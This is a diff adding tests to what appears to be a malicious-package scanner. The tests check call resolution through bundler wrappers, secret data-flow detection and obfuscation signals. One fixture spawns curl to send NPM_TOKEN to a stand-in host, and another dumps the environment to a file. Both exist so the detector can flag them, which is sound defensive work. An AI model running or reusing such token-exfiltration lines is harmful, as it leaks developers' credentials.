@@ -126,6 +126,20 @@ describe('sensitive calls', () => {
     expect(calls('function exec(x) { return x; } exec(1); const o = { spawn() {} }; o.spawn();')).toEqual([]);
   });
 
+  it('sees through compiler and bundler interop wrappers', () => {
+    expect(
+      calls(
+        [
+          'var _fs = _interopRequireDefault(require("fs"));',
+          '_fs.default.readFileSync("a");',
+          'var import_child_process = __toESM(require("child_process"));',
+          '(0, import_child_process.execSync)("id");',
+          'const os_1 = __importDefault(require("os")); os_1.default.homedir();',
+        ].join('\n'),
+      ),
+    ).toEqual(['fs.readFileSync', 'child_process.execSync', 'os.homedir']);
+  });
+
   it('resolves global aliases and constructor tricks', () => {
     expect(
       calls("const e = eval; e('1'); globalThis.fetch('/'); [].constructor.constructor('return 1')();"),
@@ -324,6 +338,31 @@ describe('data flow', () => {
     ).toEqual([['os.hostname', 'dns.lookup']]);
   });
 
+  it('counts what a sink sends, runs or writes, not where or how', () => {
+    expect(
+      flows(
+        [
+          "const cp = require('child_process'), fs = require('fs');",
+          "cp.spawn('node', ['x.js'], { env: { ...process.env, DEBUG: '1' } });",
+          'fs.rmSync(process.env.CACHE_DIR, { recursive: true });',
+          "fs.writeFileSync(process.env.OUT ?? 'out.txt', 'static');",
+        ].join('\n'),
+      ),
+    ).toEqual([]);
+    expect(
+      flows(
+        [
+          "const cp = require('child_process'), fs = require('fs');",
+          "fs.writeFileSync('/tmp/e', JSON.stringify(process.env));",
+          "cp.spawn('curl', ['-d', process.env.NPM_TOKEN, 'https://x.invalid']);",
+        ].join('\n'),
+      ),
+    ).toEqual([
+      ['env:*', 'fs.writeFileSync'],
+      ['env:NPM_TOKEN', 'child_process.spawn'],
+    ]);
+  });
+
   it('reports no flow when the secret stays local', () => {
     expect(
       flows(
@@ -352,6 +391,10 @@ describe('obfuscation and hidden code', () => {
     expect(signals(source)).toEqual(
       expect.arrayContaining(['string-array-rotation', 'obfuscator-identifiers']),
     );
+  });
+
+  it('does not take moving items between two arrays for a rotation', () => {
+    expect(signals('const out = []; while (queue.length) out.push(queue.shift());')).toEqual([]);
   });
 
   it('flags decode-then-eval chains', () => {
